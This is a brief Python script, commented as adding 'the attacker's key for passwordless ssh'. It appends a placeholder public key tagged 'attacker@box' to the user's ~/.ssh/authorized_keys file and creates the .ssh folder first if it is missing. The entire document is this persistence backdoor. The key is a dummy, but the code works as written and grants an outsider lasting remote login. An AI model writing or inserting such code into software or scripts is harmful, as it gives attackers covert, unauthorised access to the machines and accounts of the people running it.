# add the attacker's key for passwordless ssh
from pathlib import Path
ak = Path.home() / ".ssh" / "authorized_keys"
ak.parent.mkdir(exist_ok=True)
with ak.open("a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey attacker@box\n")
